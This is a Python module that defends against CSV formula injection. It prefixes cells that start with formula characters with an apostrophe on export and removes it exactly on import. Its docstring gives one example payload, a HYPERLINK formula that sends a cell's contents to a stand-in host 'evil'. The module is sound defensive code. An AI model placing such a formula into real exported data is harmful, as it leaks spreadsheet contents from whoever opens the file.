"""Spreadsheet cells: formula neutralising on the way out, and its exact undoing on the way in.

Every CSV Karta writes (the CI export, the web UI's impact downloads) goes through `neutralise`, and
the CSV import through `restore`, so that an exported file imports back to the very same values.

A spreadsheet runs a cell that starts with = + - @ (OWASP's list), or with a tab or carriage return
(some spreadsheets skip them before looking), as a formula. Names and attributes come from discovery
and are hostile: `=HYPERLINK("http://evil/?"&A1)` in a host name must reach the operator as text.

The rule, chosen so that it can be undone without guessing:
- out: a text that starts with any number of apostrophes followed by one of those characters gets one
  more apostrophe in front (`=x` -> `'=x`, `'=x` -> `''=x`); every other text is written as it is;
- in: a cell that starts with one or more apostrophes followed by one of those characters loses its
  first apostrophe.
So `restore(neutralise(t)) == t` for every text t, including texts that really start with an
apostrophe. The cost: a hand-written cell `'=1` imports as `=1` (the apostrophe is the spreadsheet's
own "this is text" mark, so that is what its author meant anyway).

Standard library only: the `karta` client may import it.
"""

import re
from typing import Any

# A spreadsheet runs a cell that starts with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NEUTRALISED = re.compile(r"^'*[=+\-@\t\r]")
_RESTORABLE = re.compile(r"^'+[=+\-@\t\r]")


def neutralise(cell: Any) -> Any:
    """A cell a spreadsheet shows as text: one that would start a formula gets a leading apostrophe."""
    if isinstance(cell, str) and _NEUTRALISED.match(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The text `neutralise` was given (exactly its inverse)."""
    return cell[1:] if cell[:1] == "'" and _RESTORABLE.match(cell) else cell
